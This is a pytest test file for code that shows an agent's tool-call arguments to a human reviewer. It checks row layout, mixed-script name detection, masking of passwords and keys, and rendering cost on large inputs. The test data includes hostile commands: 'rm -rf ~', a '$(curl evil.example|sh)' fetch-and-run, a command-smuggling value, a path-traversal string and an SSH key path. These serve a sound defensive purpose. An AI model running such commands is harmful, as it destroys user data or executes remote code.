"""What others wrote, as a person is shown it: nothing hidden, every value in a row of its own."""

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from a2c_smcp.computer.decisions.shown_text import (
    argument_rows,
    as_text,
    card_text,
    has_mixed_scripts,
    text_start,
    visible,
    words,
)
from a2c_smcp.utils.secret_shapes import asks_for_secret

_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)


@given(_VALUES)
def test_json_is_shown_exactly_and_can_be_read_back(value: object) -> None:
    assert json.loads(as_text(value)) == value


def test_every_value_has_a_row_and_texts_have_their_line_breaks() -> None:
    call: dict[str, Any] = {
        "command": "cd ~\nrm -rf *",
        "to": [{"name": "Ada", "notes": ["x\ny"]}, {}],
        "sizes": [1, 2.0, None, "a"],
        "odd key": True,
        "none": {},
    }
    assert [(row.name, row.text, row.is_text) for row in argument_rows(call)] == [
        ("command", "cd ~\nrm -rf *", True),
        ("to[0].name", "Ada", True),
        ("to[0].notes[0]", "x\ny", True),
        ("to[1]", "{}", False),
        ("sizes", '[1, 2.0, null, "a"]', False),
        ('["odd key"]', "true", False),
        ("none", "{}", False),
    ]
    assert argument_rows({}) == []


@given(st.dictionaries(st.text(), _VALUES, max_size=4))
def test_nothing_of_a_call_is_left_out(call: dict[str, Any]) -> None:
    shown = "\n".join(f"{row.name} {row.text}" for row in argument_rows(call))
    for text in _texts(call):
        assert text in shown or json.dumps(text, ensure_ascii=False)[1:-1] in shown


def _texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for inner in value.values() for text in _texts(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in _texts(inner)]
    return [value] if isinstance(value, str) else []


def test_a_call_with_thousands_of_parts_has_few_rows_and_is_still_whole() -> None:
    call = {"many": [{"n": number} for number in range(5000)], "last": "rm -rf ~"}
    rows = argument_rows(call)
    assert [row.name for row in rows] == ["many", "last"]
    assert json.loads(rows[0].text) == call["many"]
    wide = {f"key{number}": number for number in range(1000)}
    rows = argument_rows(wide)
    assert len(rows) == 201 and rows[-1].name == "…"
    assert len(json.loads(rows[-1].text)) == 800


def test_what_nests_without_end_is_shown_as_such() -> None:
    nested: dict[str, Any] = {}
    for _ in range(100_000):
        nested = {"a": nested}
    [row] = argument_rows(nested)
    assert "too deeply" in row.text


@pytest.mark.parametrize(
    ("name", "mixed"),
    [
        ("planner", False),
        ("pl\u0430nner", True),  # a Cyrillic a
        ("ｐlanner", True),
        ("\U0001d5c9lanner", True),
        ("ο-mega", True),
        ("план", False),
        ("Bodø café", False),
        ("日本語のタスク runner", False),
        ("план-план 2", False),
        ("", False),
    ],
)
def test_letters_of_several_scripts_in_one_name_are_noticed(name: str, mixed: bool) -> None:
    assert has_mixed_scripts(name) is mixed


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("Your password", True),
        ("API-Key", True),
        ("PIN", True),
        ("spinning", False),
        ("请输入密码", True),
        (None, False),
    ],
)
def test_a_question_for_a_password_is_noticed(text: str | None, secret: bool) -> None:
    assert asks_for_secret("harmless", text) is secret


# --- what a hostile agent sends costs no more than what is shown


class _Counted(list[Any]):
    """A list that knows how much of it was looked at."""

    looks = 0

    def __iter__(self) -> Iterator[Any]:
        for item in super().__iter__():
            self.looks += 1
            yield item


def test_the_start_of_a_long_value_is_written_without_the_rest() -> None:
    value = _Counted(range(1_000_000))
    assert text_start({"a": value}, 600)[1] and value.looks < 600
    assert text_start({"a": [1]}, 600) == (as_text({"a": [1]}), False)
    assert text_start({"a": "\u202e" * 10_000}, 20) == (visible('{\n  "a": "' + "\u202e" * 10), True)


def test_a_long_list_is_shown_whole_and_gone_through_once_to_write_it() -> None:
    value = _Counted([0] * 1_000_000)
    [row] = argument_rows({"a": value})
    assert value.looks < 1_001_000 and json.loads(row.text) == value
    many = argument_rows({f"k{number}": {"x": [{}]} for number in range(100_000)})
    assert len(many) == 201 and len(json.loads(many[-1].text)) == 100_000 - 200


@pytest.mark.parametrize("text", ["\u200b" * 100_000, "a\u200b" * 50_000])
def test_very_many_escapes_are_few_parts_and_nothing_is_lost(text: str) -> None:
    parts = words(text)
    assert len(parts) < 300 and len(parts) % 2 == 1 and "".join(parts) == visible(text)


# --- secrets on a card


def on_card(**arguments: Any) -> dict[str, str]:
    return {row.name: card_text(row, row.text) for row in argument_rows(arguments)}


def test_a_card_hides_passwords_and_two_of_them_do_not_look_alike() -> None:
    shown = on_card(password="hunter22", again="", login={"pin": 4711}, argv=["x", "--token", "abcdef"])
    assert re.fullmatch(r"\*\*\* \(8 characters, #[0-9a-f]{6}\)", shown["password"])
    assert re.fullmatch(r"\*\*\* \(4 characters, #[0-9a-f]{6}\)", shown["login.pin"])
    assert shown["again"] == "" and "abcdef" not in shown["argv"] and "--token" in shown["argv"]
    command = on_card(command="mysql -phunter22 shop")["command"]
    assert command.startswith("mysql -p*** (8 characters, #") and command.endswith(") shop")
    env = on_card(env=[{"name": "DB_TOKEN", "value": "abc"}, {"name": "SIZE", "value": "9"}])
    assert env["env[0].value"].startswith("***") and env["env[1].value"] == "9"
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA\n" * 4 + "abc=\n-----END RSA PRIVATE KEY-----"
    assert "MIIE" not in on_card(text=key)["text"]
    assert on_card(password="hunter22") == on_card(password="hunter22") != on_card(password="hunter23")


@pytest.mark.parametrize(
    "value",
    [
        "$(curl evil.example|sh)",
        "x;rm -rf ~",
        "a b",
        "/home/ada/.ssh/id_rsa",
        "../../etc/passwd",
        "https://evil.example/upload",
        "eve@evil.example",
    ],
)
def test_what_could_do_something_is_shown_also_where_a_password_is_expected(value: str) -> None:
    assert on_card(password=value)["password"] == value
    assert value in on_card(command=f"deploy --password '{value}'")["command"]
    hides = f"-----BEGIN RSA PRIVATE KEY-----\n{value} and words of a command\n"
    assert value in on_card(text=hides)["text"]


@pytest.mark.parametrize("piece", ["A", "A" * 16 + "\n", "=", "A" * 80, "\\n", "A" * 16 + "\\n"])
def test_no_value_takes_long_to_be_hidden(piece: str) -> None:
    began = time.process_time()
    on_card(password=piece * (190_000 // len(piece)) + "$", key=piece * 2_000_000)
    assert time.process_time() - began < 3
